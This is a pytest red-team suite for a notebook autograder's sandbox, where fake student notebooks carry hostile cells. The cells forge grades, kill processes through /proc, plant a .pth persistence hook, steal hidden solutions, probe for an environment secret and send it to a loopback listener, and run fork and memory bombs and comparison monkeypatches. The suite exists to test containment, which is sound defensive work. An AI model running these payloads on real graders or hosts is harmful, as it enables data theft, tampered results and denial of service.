"""Red team: one fake student per attack on the grader, all graded in one real run.

Safety of the test itself: the grader runs from temporary copies (the library, the
hidden checks, solutions/ and exercises/, and a throwaway virtual environment whose
site-packages reaches the real one through a ``.pth`` line), inside an outer pids and
memory cgroup made by this test, so that even a failed sandbox could only damage
those copies and could not exhaust the machine. No attack writes a real path of the
checkout or of the installation.

Each test asserts the exact CSV row of its student and that nothing outside the
sandbox changed: the copies, the output folder, the other rows, leftover processes,
and a loopback server that must receive nothing.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import signal
import site
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from convkit.grade.model import NOTEBOOKS
from convkit.grade.questions import QUESTIONS
from convkit.grade.sandbox import _cgroup_base, capabilities

from .conftest import HERE, ROOT

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the namespace sandbox is Linux-only")

FULL = {q.id: q.points for q in QUESTIONS}
MAX = sum(FULL.values())
NAMES = sorted({q.name for q in QUESTIONS})
SECRET = "convkit-redteam-secret-7f3a"
# The whole-notebook time limit of the hostile class: the sleeper (100 s of sleeps) and the fork
# bomb run into it, and every honest notebook finishes well inside it.
NOTEBOOK_LIMIT = 20
BOOT = (
    "import sys; sys.path.insert(0, sys.argv.pop(1)); "
    "from convkit.grade.cli import main; sys.exit(main(sys.argv[1:]))"
)


# --------------------------------------------------------------------------- the world


def _tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if "__pycache__" in path.parts:
            continue
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def _installation_listing() -> list[str]:
    """The real installation's start-up hooks (``*.pth``, ``sitecustomize``) with a digest of each."""
    found = []
    for folder in site.getsitepackages():
        for path in sorted(Path(folder).glob("*.pth")) + sorted(Path(folder).glob("*customize.py")):
            found.append(f"{path}:{hashlib.sha256(path.read_bytes()).hexdigest()}")
    return found


class _Cgroup:
    """An outer pids + memory cgroup for the whole grader process tree (defence in depth)."""

    def __init__(self, name: str) -> None:
        self.folders = []
        for controller, settings in (
            ("pids", {"pids.max": "600"}),
            ("memory", {"memory.limit_in_bytes": str(8 << 30)}),
        ):
            base = _cgroup_base(controller)
            if base is None:
                continue
            folder = base / name
            folder.mkdir(exist_ok=True)
            for key, value in settings.items():
                if (folder / key).exists():
                    (folder / key).write_text(value)
            self.folders.append(folder)

    @property
    def complete(self) -> bool:
        return len(self.folders) == 2

    def join(self) -> None:  # in the child, before exec
        for folder in self.folders:
            (folder / "cgroup.procs").write_text(str(os.getpid()))

    def close(self) -> None:
        for folder in self.folders:
            for _ in range(200):
                try:
                    folder.rmdir()
                    break
                except OSError:
                    time.sleep(0.02)


class _Listener:
    """A TCP server on the host's loopback that records every connection (there must be none)."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.server.close()


def _sandbox_uids_alive() -> list[int]:
    """PIDs of processes running as a sandbox UID (100000 and up): leftovers of a job."""
    alive = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            status = (entry / "status").read_text()
        except OSError:
            continue
        uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
        if uid >= 100000:
            alive.append(int(entry.name))
    return alive


def _described(pid: int) -> str:
    """``pid`` with its state and command line, for an assertion message."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        command = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return f"{pid} (gone by now)"
    return f"{pid} (state {state}: {command[:200]})"


def _notebook(base: Path, cells=(), *, extra_keys: bool = False) -> str:
    """``base`` (a notebook file) with extra code cells at the end."""
    notebook = nbformat.read(base, as_version=4)
    for source in cells:
        notebook.cells.append(nbformat.v4.new_code_cell(source))
    text = nbformat.writes(notebook)
    if extra_keys:  # one unknown key in a cell: nbformat warns and takes its validation paths
        data = json.loads(text)
        data["cells"][0]["an_unknown_key"] = {"x": 1}
        text = json.dumps(data)
    return text


def _bind_all(expression: str) -> str:
    """A cell binding every answer name to ``expression`` and to a function returning it."""
    return (
        f"_value = {expression}\n"
        "def _answer(*args, **kwargs):\n    return _value\n"
        f"for _name in {NAMES!r}:\n"
        "    globals()[_name] = _answer\n"
        "globals()['_plain'] = _value\n"
    )


class World:
    """Temporary copies, a fake class, one grader run, and what it left behind."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.repo = root / "repo"
        ignore = shutil.ignore_patterns("__pycache__", "*.pyc", ".ipynb_checkpoints")
        shutil.copytree(ROOT / "lib" / "convkit", self.repo / "lib" / "convkit", ignore=ignore)
        shutil.copytree(HERE, self.repo / "tests" / "grading", ignore=ignore)
        for folder in ("solutions", "exercises"):
            shutil.copytree(ROOT / folder, self.repo / folder, ignore=ignore)
        self.venv = root / "venv"
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(self.venv)], check=True)
        packages = next(self.venv.glob("lib/python*/site-packages"))
        (packages / "real.pth").write_text("\n".join(site.getsitepackages()) + "\n")
        self.python = str(self.venv / "bin" / "python")
        self.out = root / "out"
        self.submissions = root / "submissions"
        self.listener = _Listener()

    def exercise(self, name: str) -> Path:
        return self.repo / "exercises" / name

    def solution(self, name: str) -> Path:
        return self.repo / "solutions" / name

    def add(self, student: str, notebooks: dict[str, str]) -> None:
        folder = self.submissions / student
        folder.mkdir(parents=True, exist_ok=True)
        for name, text in notebooks.items():
            (folder / name).write_text(text)

    def grade(self, *args: str, cgroup: _Cgroup | None = None, timeout: float = 900):
        env = dict(os.environ, CONVKIT_REDTEAM_SECRET=SECRET)
        command = [
            self.python,
            "-I",
            "-c",
            BOOT,
            str(self.repo / "lib"),
            str(self.submissions),
            "--out",
            str(self.out / "grades.csv"),
            "--checks",
            str(self.repo / "tests" / "grading"),
            "--no-progress",
            *args,
        ]
        return subprocess.run(
            command,
            cwd=self.root,
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
            preexec_fn=cgroup.join if cgroup else None,
        )

    def rows(self) -> dict[str, dict]:
        """The CSV's rows without the notebook subtotals (test_grader pins those)."""
        with open(self.out / "grades.csv", newline="") as handle:
            rows = {r.pop("student"): r for r in csv.DictReader(handle)}
        return {s: {k: v for k, v in r.items() if not k.endswith(".total")} for s, r in rows.items()}

    def feedback(self, student: str) -> str:
        return (self.out / "feedback" / f"{student}.md").read_text()


def _row(points: dict) -> dict:
    row = {q.id: str(points.get(q.id, 0)) for q in QUESTIONS}
    row["total"] = str(sum(points.values()))
    row["max"] = str(MAX)
    return row


# --------------------------------------------------------------------------- the attacks

NB = NOTEBOOKS[0]  # the notebook hostile cells are added to


def _attacks(world: World, fork_bomb: bool) -> dict[str, tuple[dict[str, str], dict]]:
    """student -> (notebooks, expected points)."""
    blank, honest = world.exercise(NB), world.solution(NB)
    grades = world.out / "grades.csv"
    report = world.repo / "lib" / "convkit" / "grade" / "report.py"
    checks = world.repo / "tests" / "grading" / "questions_01.py"
    everything = {name: world.solution(name).read_text() for name in NOTEBOOKS}
    blank_all = {name: world.exercise(name).read_text() for name in NOTEBOOKS}
    port = world.listener.port
    attacks: dict[str, tuple[dict[str, str], dict]] = {
        "honest": (everything, FULL),
        "blank": (blank_all, {}),
        # Code execution inside the grader: patch a module the grader imports, with a notebook
        # that takes nbformat's warning paths.
        "code_exec": (
            {
                NB: _notebook(
                    blank,
                    [
                        f"open({str(report)!r}, 'a').write('\\nimport os; os.environ[\"PWNED\"] = \"1\"\\n')",
                        "import convkit, pathlib\n"
                        "p = pathlib.Path(convkit.__file__).parent / 'grade' / 'classgrader.py'\n"
                        "p.write_text(p.read_text().replace('Outcome(question.points, question.points)', "
                        "'Outcome(question.points, question.points)'))",
                    ],
                    extra_keys=True,
                )
            },
            {},
        ),
        # Forge other students' results through /proc/<sibling>/fd, stop or kill everyone visible.
        "forger": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import os, signal\n"
                        "for pid in os.listdir('/proc'):\n"
                        "    if not pid.isdigit() or int(pid) == os.getpid():\n        continue\n"
                        "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
                        "        try:\n            os.kill(int(pid), sig)\n        except OSError:\n            pass\n"
                        "    try:\n        fds = os.listdir(f'/proc/{pid}/fd')\n    except OSError:\n        continue\n"
                        "    for fd in fds:\n"
                        "        try:\n"
                        "            with open(f'/proc/{pid}/fd/{fd}', 'w') as h:\n"
                        '                h.write(\'{"event": "result", "index": 0, "value": 0}\\n{"event": "end"}\\n\')\n'
                        "        except OSError:\n            pass"
                    ],
                )
            },
            {},
        ),
        # A fork-hopping survivor that keeps rewriting the CSV after its notebook ends.
        "survivor": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import os, time\n"
                        "def hop(n):\n"
                        "    for _ in range(n):\n"
                        "        if os.fork():\n            os._exit(0)\n"
                        f"        try:\n            open({str(grades)!r}, 'w').write('student,total\\nsurvivor,999\\n')\n"
                        "        except OSError:\n            pass\n"
                        "        time.sleep(0.05)\n"
                        "if os.fork() == 0:\n    os.setsid()\n    hop(200)\n    os._exit(0)"
                    ],
                )
            },
            {},
        ),
        # Forge the CSV, then crash the grader with a deeply nested line; rerun and resume.
        "deep_json": (
            {
                NB: _notebook(
                    blank,
                    [
                        f"try:\n    open({str(grades)!r}, 'w').write('student,total\\ndeep_json,70\\n')\nexcept OSError:\n    pass",
                        "import os\nline = b'[' * 100000 + b']' * 100000 + b'\\n'\n"
                        "for fd in range(3, 64):\n"
                        "    try:\n        os.write(fd, line)\n    except OSError:\n        pass",
                    ],
                )
            },
            {},
        ),
        # Persistence: a .pth in the environment, the hidden checks edited.
        "persist": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import site\nfor d in site.getsitepackages():\n"
                        "    try:\n        open(d + '/zz_pwn.pth', 'w').write('import os\\n')\n    except OSError:\n        pass",
                        f"open({str(checks)!r}, 'w').write('HIDDEN = {{}}\\n')",
                    ],
                )
            },
            {},
        ),
        # Stolen answers: the solutions, found through convkit.__file__, run as the student's own.
        "thief": (
            {
                name: _notebook(
                    world.exercise(name),
                    [
                        "import convkit, json, pathlib\n"
                        "root = pathlib.Path(convkit.__file__).resolve().parents[2]\n"
                        f"nb = json.loads((root / 'solutions' / {name!r}).read_text())\n"
                        "for cell in nb['cells']:\n"
                        "    if cell['cell_type'] == 'code':\n"
                        "        exec(''.join(cell['source']))"
                    ],
                )
                for name in NOTEBOOKS
            },
            {},
        ),
        # Exfiltration: the grader's environment and command line, other submissions, the network.
        "exfiltrator": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import os, socket, glob\nleaks = []\n"
                        f"if {SECRET!r} in str(os.environ):\n    leaks.append('env')\n"
                        "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
                        "    try:\n        data = open(path, 'rb').read()\n    except OSError:\n        continue\n"
                        f"    if {SECRET.encode()!r} in data or b'--checks' in data:\n        leaks.append('proc')\n"
                        f"for path in [{str(world.submissions / 'honest' / NB)!r}, {str(world.repo / 'solutions')!r},"
                        f" {str(world.repo / 'tests')!r}, {str(world.out)!r}]:\n"
                        "    if os.path.exists(path):\n        leaks.append('file:' + path.rsplit('/', 1)[-1])\n"
                        "home = os.path.expanduser('~root')\n"
                        "if os.path.isdir(home) and set(os.listdir(home)) - {'.pyenv'}:\n    leaks.append('home')\n"
                        "try:\n"
                        f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
                        "    leaks.append('net')\nexcept OSError:\n    pass\n"
                        "raise RuntimeError('LEAKS[' + ' '.join(sorted(set(leaks))) + ']')"
                    ],
                )
            },
            {},
        ),
        # Denial of service: 40 cells of sleep, output with no newline.
        "sleepy": ({NB: _notebook(blank, ["import time\ntime.sleep(2.5)"] * 40)}, {}),
        "no_newline": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import os\nchunk = b'x' * (1 << 20)\n"
                        "for fd in range(3, 64):\n"
                        "    try:\n"
                        "        for _ in range(100):\n            os.write(fd, chunk)\n"
                        "    except OSError:\n        pass"
                    ],
                )
            },
            {},
        ),
        # RLIMIT_AS dodged by unmapping big libraries, then a large resident allocation.
        "memory_bomb": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import ctypes, mmap\nlibc = ctypes.CDLL(None)\n"
                        "for line in open('/proc/self/maps'):\n"
                        "    parts = line.split()\n"
                        "    if len(parts) > 5 and ('cuda' in parts[5] or 'nvidia' in parts[5] or 'cublas' in parts[5]):\n"
                        "        lo, hi = (int(x, 16) for x in parts[0].split('-'))\n"
                        "        libc.munmap(ctypes.c_void_p(lo), ctypes.c_size_t(hi - lo))",
                        "hoard = []\nfor _ in range(64):\n"
                        "    block = bytearray(64 << 20)\n    block[::4096] = b'x' * len(block[::4096])\n"
                        "    hoard.append(block)",
                    ],
                )
            },
            {},
        ),
        # Already blocked, and must stay blocked.
        "liar": (
            {
                NB: _notebook(
                    blank,
                    [
                        "class Liar:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
                        "    def __array__(self, *a, **k): raise RuntimeError('no')\n    def __float__(self): return 0.0",
                        _bind_all("Liar()"),
                    ],
                )
            },
            {},
        ),
        "subclasses": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import numpy as np, torch\n"
                        "class A(np.ndarray):\n    def __eq__(self, o): return True\n"
                        "class F(float):\n    def __eq__(self, o): return True\n"
                        "class T(torch.Tensor):\n    pass",
                        _bind_all(
                            "[np.zeros(3).view(A), F(1.0), torch.zeros(3).as_subclass(T),"
                            " np.array([object()]), np.zeros(2, complex), np.zeros(2, 'i4,f4'),"
                            " float('nan'), float('inf')]"
                        ),
                    ],
                )
            },
            {},
        ),
        "huge": ({NB: _notebook(blank, ["import numpy as np", _bind_all("np.zeros(6_000_000)")])}, {}),
        "monkeypatch": (
            {
                NB: _notebook(
                    blank,
                    [
                        "import numpy as np, torch\n"
                        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
                        "torch.allclose = lambda *a, **k: True\n"
                        "import convkit.grade.model as m\nm.compare = lambda *a, **k: None\n"
                        "m.verdict = lambda *a, **k: None"
                    ],
                )
            },
            {},
        ),
        # Leftovers: atexit, an ignored SIGTERM, daemon threads, setsid and a double fork.
        "leftovers": (
            {
                **everything,
                NB: _notebook(
                    honest,
                    [
                        "import atexit, os, signal, threading, time\n"
                        f"GRADES = {str(grades)!r}\n"
                        "def scribble():\n"
                        "    for _ in range(100):\n"
                        "        try:\n            open(GRADES, 'w').write('student,total\\nleftovers,999\\n')\n"
                        "        except OSError:\n            pass\n"
                        "        time.sleep(0.05)\n"
                        "atexit.register(scribble)\n"
                        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                        "threading.Thread(target=scribble, daemon=True).start()\n"
                        "if os.fork() == 0:\n"
                        "    os.setsid()\n"
                        "    if os.fork() == 0:\n        scribble()\n    os._exit(0)"
                    ],
                ),
            },
            FULL,
        ),
    }
    if fork_bomb:
        attacks["fork_bomb"] = (
            {
                NB: _notebook(
                    blank,
                    [
                        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
                    ],
                )
            },
            {},
        )
    return attacks


# --------------------------------------------------------------------------- the run


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    found = capabilities()
    assert found["level"] == "namespaces", f"this machine should support the namespace sandbox, found {found}"
    world = World(tmp_path_factory.mktemp("redteam"))
    cgroup = _Cgroup(f"convkit-redteam-{os.getpid()}")
    attacks = _attacks(world, fork_bomb=cgroup.complete)
    for student, (notebooks, _) in attacks.items():
        world.add(student, notebooks)
    before = {
        "repo": _tree_digest(world.repo),
        "venv": _tree_digest(world.venv),
        "installation": _installation_listing(),
        "submissions": _tree_digest(world.submissions),
    }
    # Grading tests run one after another on this worker, and the shared forkserver's last jails
    # may still be ending: wait for them. One still alive after 15 s was left by an earlier test.
    deadline = time.monotonic() + 15
    while (earlier := _sandbox_uids_alive()) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not earlier, f"sandbox processes left before the red team: {[_described(p) for p in earlier]}"
    try:
        started = time.monotonic()
        done = world.grade(
            "--jobs",
            "2",
            "--timeout",
            "3",
            "--notebook-timeout",
            str(NOTEBOOK_LIMIT),
            "--memory",
            "768",
            cgroup=cgroup,
        )
        world.seconds = time.monotonic() - started
        # When the grader has returned, no process of the class may be left: none now, and none
        # 2 s later, by which time a survivor would have rewritten the CSV.
        at_return = [_described(pid) for pid in _sandbox_uids_alive()]
        time.sleep(2)
        world.done, world.attacks, world.before = done, attacks, before
        world.leftover_processes = at_return + [_described(pid) for pid in _sandbox_uids_alive()]
        yield world
    finally:
        world.listener.close()
        for pid in _sandbox_uids_alive():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        cgroup.close()


def test_the_hostile_class_is_graded_to_the_end(graded):
    assert graded.done.returncode == 0, graded.done.stderr[-2000:]
    assert sorted(graded.rows()) == sorted(graded.attacks)


@pytest.mark.parametrize(
    "student",
    [
        "honest",
        "blank",
        "code_exec",
        "forger",
        "survivor",
        "deep_json",
        "persist",
        "thief",
        "exfiltrator",
        "sleepy",
        "no_newline",
        "memory_bomb",
        "liar",
        "subclasses",
        "huge",
        "monkeypatch",
        "leftovers",
        "fork_bomb",
    ],
)
def test_each_attack_scores_exactly_its_honest_worth(graded, student):
    if student not in graded.attacks:
        pytest.fail("no outer cgroup: the fork bomb was not run")
    assert graded.rows()[student] == _row(graded.attacks[student][1]), graded.feedback(student)


def test_nothing_outside_the_sandbox_changed(graded):
    assert _tree_digest(graded.repo) == graded.before["repo"], "the copied repository was changed"
    assert _tree_digest(graded.venv) == graded.before["venv"], "the environment was changed"
    assert _installation_listing() == graded.before["installation"]
    assert _tree_digest(graded.submissions) == graded.before["submissions"]
    written = sorted(
        str(p.relative_to(graded.out)) for p in graded.out.rglob("*") if ".grades.csv.state" not in p.parts
    )
    reports = ["class-report.md", "class-report.html"]
    assert written == sorted(
        ["grades.csv", "grades.csv.record.json", "feedback", *reports]
        + [f"feedback/{s}.md" for s in graded.attacks]
    )
    assert graded.leftover_processes == []
    assert graded.listener.connections == 0


def test_the_exfiltrator_found_nothing_to_leak(graded):
    text = graded.feedback("exfiltrator")
    assert "RuntimeError: LEAKS\\[\\]" in text, text  # the attack ran, and found nothing


def test_feedback_names_what_the_sandbox_stopped(graded):
    assert f"went over its time limit of {NOTEBOOK_LIMIT} s" in graded.feedback("sleepy")
    assert "sent unreadable output" in graded.feedback("no_newline")
    memory = graded.feedback("memory_bomb")  # stopped by RLIMIT_AS, the cgroup's OOM killer, or time
    assert any(
        word in memory for word in ("MemoryError", "ended the process", "timed out", "did not finish")
    ), memory


def test_a_rerun_resumes_from_the_graders_own_record_not_from_the_csv(graded):
    rows = graded.rows()
    (graded.out / "grades.csv").write_text("student,total,max\nblank,70,70\n")  # forged meanwhile
    done = graded.grade("--jobs", "1", "--timeout", "3")
    assert done.returncode == 0, done.stderr[-2000:]
    assert graded.rows() == rows  # every student finished before: nothing regraded, nothing forged


def test_a_dead_or_stopped_forkserver_is_replaced(tmp_path):
    from convkit.grade.classgrader import _expected, grade_notebook, load_questions
    from convkit.grade.sandbox import Sandbox

    questions = [q for q in load_questions(HERE) if q.notebook == NB]
    text = (ROOT / "solutions" / NB).read_text()
    with Sandbox() as sandbox:
        os.kill(sandbox.forkserver.pid, signal.SIGSTOP)
        first = grade_notebook(sandbox, text, questions, _expected(questions), timeout=5)
        os.kill(sandbox.forkserver.pid, signal.SIGKILL)
        second = grade_notebook(sandbox, text, questions, _expected(questions), timeout=5)
    for result in (first, second):
        assert {q: o.points for q, o in result.outcomes.items()} == {q.id: q.points for q in questions}
